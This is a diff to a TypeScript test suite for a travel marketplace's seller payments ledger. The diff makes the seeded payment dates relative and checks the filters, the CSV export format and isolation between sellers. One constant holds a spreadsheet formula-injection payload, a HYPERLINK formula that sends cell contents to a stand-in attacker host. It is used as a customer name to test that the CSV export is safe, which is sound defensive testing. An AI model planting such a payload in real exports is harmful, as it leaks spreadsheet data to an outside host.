@@ -3,6 +3,8 @@ import { SELLER_A, SELLER_B } from "../support/bookings";
 import { fillCart, payAndConfirm, startCheckout } from "../support/payments";
 import { newCustomer } from "../support/security-fixtures";
 import { type Session, bearer, loginViaApi } from "../support/session";
+import { todayInIndia } from "../../worker/domain/bookings/transitions";
+import { testToday } from "../support/clock";
 import { type TestWorker, startWorker } from "../support/worker";
 
 // Issue 15: the seller's payments ledger. Each seller sees their own share of a checkout and the refunds of it,
@@ -24,9 +26,15 @@ type Entry = {
 };
 
 const INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")';
-/** The seed's payments (worker/db/seed-data.ts): bk_w4 paid in January, bk_w6 paid and refunded in October. */
-const W4 = { ref: "TB-2026-000004", amount: 5_066_788 };
-const W6 = { ref: "TB-2026-000006", amount: 955_694 };
+/**
+ * The seed's payments (worker/db/seed-data.ts, dated relative to the day it is laid): bk_w4 paid about ten months
+ * ago, bk_w6 paid seven weeks ago and refunded four days later. Refs and days come from the seed's calendar.
+ */
+const W4 = { ref: "", amount: 5_066_788, day: "" };
+const W6 = { ref: "", amount: 955_694, paidDay: "", refundDay: "" };
+/** A stored instant as a day in India (YYYY-MM-DD) and as the CSV writes it (dd/mm/yyyy). */
+const dayInIndia = (iso: string) => todayInIndia(new Date(iso));
+const csvDay = (day: string) => day.split("-").reverse().join("/");
 
 let w: TestWorker;
 let sellerA: Session & { cookie: string };
@@ -44,6 +52,10 @@ const bookingOf = (paymentId: string, sellerId: string) =>
 
 beforeAll(async () => {
   w = await startWorker();
+  const { bookings, payments } = w.seed;
+  Object.assign(W4, { ref: bookings.bk_w4.ref, day: dayInIndia(payments.bk_w4.capturedAt) });
+  const refunded = payments.bk_w6.refund?.processedAt ?? "";
+  Object.assign(W6, { ref: bookings.bk_w6.ref, paidDay: dayInIndia(payments.bk_w6.capturedAt), refundDay: dayInIndia(refunded) });
   [sellerA, sellerB, customer] = await Promise.all([loginViaApi(w, SELLER_A), loginViaApi(w, SELLER_B), newCustomer(w, "ledger")]);
   // Customer names are user input: this one is a spreadsheet formula.
   const renamed = await w.api("PUT", "/api/auth/profile", { name: INJECTION, phone: null }, bearer(customer));
@@ -85,7 +97,7 @@ const csvOf = async (as: { cookie: string }, query = "") => {
 };
 
 /** Today in India, as the filters take it. */
-const today = () => new Date(Date.now() + 330 * 60_000).toISOString().slice(0, 10);
+const today = testToday;
 
 describe("each seller's share of one checkout", () => {
   it("shows seller A only A's trip and seller B only B's, with the amount each was paid", async () => {
@@ -158,25 +170,26 @@ describe("each seller's share of one checkout", () => {
 });
 
 describe("filters", () => {
-  it("takes dates as days in India: October holds bk_w6's payment and its refund, with a chart by day", async () => {
-    const october = await ledger(sellerA, "?from=2026-10-01&to=2026-10-31");
-    expect(october.data.map((e) => [e.date.slice(0, 10), e.kind, e.bookingRef, e.amount])).toEqual([
-      ["2026-10-09", "refund", W6.ref, -W6.amount],
-      ["2026-10-05", "payment", W6.ref, W6.amount],
+  it("takes dates as days in India: bk_w6's days hold its payment and its refund, with a chart by day", async () => {
+    const w6 = await ledger(sellerA, `?from=${W6.paidDay}&to=${W6.refundDay}`);
+    expect(w6.data.map((e) => [dayInIndia(e.date), e.kind, e.bookingRef, e.amount])).toEqual([
+      [W6.refundDay, "refund", W6.ref, -W6.amount],
+      [W6.paidDay, "payment", W6.ref, W6.amount],
     ]);
-    expect(october.totals).toEqual({ received: W6.amount, refunded: W6.amount, net: 0, refundPending: 0 });
-    expect(october.chart).toEqual({
+    expect(w6.totals).toEqual({ received: W6.amount, refunded: W6.amount, net: 0, refundPending: 0 });
+    expect(w6.chart).toEqual({
       bucket: "day",
       points: [
-        { period: "2026-10-05", received: W6.amount, refunded: 0 },
-        { period: "2026-10-09", received: 0, refunded: W6.amount },
+        { period: W6.paidDay, received: W6.amount, refunded: 0 },
+        { period: W6.refundDay, received: 0, refunded: W6.amount },
       ],
       cut: false,
     });
-    const january = await ledger(sellerA, "?from=2026-01-01&to=2026-01-31");
-    expect(january.data.map((e) => [e.kind, e.bookingRef, e.amount])).toEqual([["payment", W4.ref, W4.amount]]);
+    const w4 = await ledger(sellerA, `?from=${W4.day}&to=${W4.day}`);
+    expect(w4.data.map((e) => [e.kind, e.bookingRef, e.amount])).toEqual([["payment", W4.ref, W4.amount]]);
     // A range of more than two months is charted by month.
-    expect((await ledger(sellerA, "?from=2026-01-01&to=2026-10-31")).chart.points.map((p) => p.period)).toEqual(["2026-01", "2026-10"]);
+    const months = [W4.day, W6.paidDay, W6.refundDay].map((d) => d.slice(0, 7));
+    expect((await ledger(sellerA, `?from=${W4.day}&to=${W6.refundDay}`)).chart.points.map((p) => p.period)).toEqual([...new Set(months)]);
   });
 
   it("puts a payment captured at 00:30 in India on that Indian day, not on the UTC one before it", async () => {
@@ -236,7 +249,7 @@ describe("filters", () => {
 
 describe("the CSV", () => {
   it("is a dated UTF-8 attachment with a BOM, CRLF lines, en-IN dates and rupees as plain numbers", async () => {
-    const { res, bytes, text } = await csvOf(sellerA, "?from=2026-10-01&to=2026-10-31");
+    const { res, bytes, text } = await csvOf(sellerA, `?from=${W6.paidDay}&to=${W6.refundDay}`);
     expect(res.status).toBe(200);
     expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
     expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="tripbazaar-payments-\d{4}-\d{2}-\d{2}\.csv"$/);
@@ -247,8 +260,8 @@ describe("the CSV", () => {
     expect(text.replace(/\r\n/g, "")).not.toContain("\n");
     expect(text.slice(1).split("\r\n")).toEqual([
       '"Date","Type","Booking","Package","Customer","Amount (₹)","Status","Reference"',
-      `05/10/2026,"Payment","${W6.ref}","Rishikesh Yoga and Rafting","Asha Verma",9556.94,"Received","pay_seed_bk_w6"`,
-      `09/10/2026,"Refund","${W6.ref}","Rishikesh Yoga and Rafting","Asha Verma",-9556.94,"Refunded","rfnd_seed_bk_w6"`,
+      `${csvDay(W6.paidDay)},"Payment","${W6.ref}","Rishikesh Yoga and Rafting","Asha Verma",9556.94,"Received","pay_seed_bk_w6"`,
+      `${csvDay(W6.refundDay)},"Refund","${W6.ref}","Rishikesh Yoga and Rafting","Asha Verma",-9556.94,"Refunded","rfnd_seed_bk_w6"`,
       "",
     ]);
   });
@@ -263,7 +276,15 @@ describe("the CSV", () => {
 });
 
 describe("isolation and roles", () => {
-  const A_ONLY = [W4.ref, W6.ref, "Goa Beach Escape", "Munnar Tea Trails", "Rishikesh Yoga and Rafting", "pay_seed_bk_w4", "Asha Verma"];
+  const A_ONLY = () => [
+    W4.ref,
+    W6.ref,
+    "Goa Beach Escape",
+    "Munnar Tea Trails",
+    "Rishikesh Yoga and Rafting",
+    "pay_seed_bk_w4",
+    "Asha Verma",
+  ];
 
   it("never shows seller B seller A's rows: not in the JSON, the CSV or the page, whatever the query names", async () => {
     const json = await w.api(
@@ -281,19 +302,21 @@ describe("isolation and roles", () => {
     expect(page.status).toBe(200);
     const html = await page.text();
     for (const answer of [JSON.stringify(json.body), csv, html])
-      for (const secret of [...A_ONLY, paid.a.id]) expect(answer, secret).not.toContain(secret);
+      for (const secret of [...A_ONLY(), paid.a.id]) expect(answer, secret).not.toContain(secret);
     expect(html).toContain("Spiti Valley Road Trip");
   });
 
   it("renders seller A's page on the server in one D1 round trip, with totals, the chart's figures and CSV link", async () => {
-    const res = await w.request("/seller-dashboard/payments?from=2026-10-01&to=2026-10-31", { headers: { cookie: sellerA.cookie } });
+    const res = await w.request(`/seller-dashboard/payments?from=${W6.paidDay}&to=${W6.refundDay}`, {
+      headers: { cookie: sellerA.cookie },
+    });
     expect(res.status).toBe(200);
     expect(res.headers.get("x-tb-d1-calls")).toBe("1");
     const html = await res.text();
     expect(html).toContain("<title>Payments · Seller dashboard | Tripbazaar</title>");
     expect(html).toContain(W6.ref);
     expect(html).toContain("₹9,556.94");
-    expect(html).toContain('href="/api/seller-payments/export.csv?from=2026-10-01&amp;to=2026-10-31"');
+    expect(html).toContain(`href="/api/seller-payments/export.csv?from=${W6.paidDay}&amp;to=${W6.refundDay}"`);
     expect(html).toContain("Show the chart&#x27;s figures as a table");
     expect(html).not.toContain(W4.ref);
   });
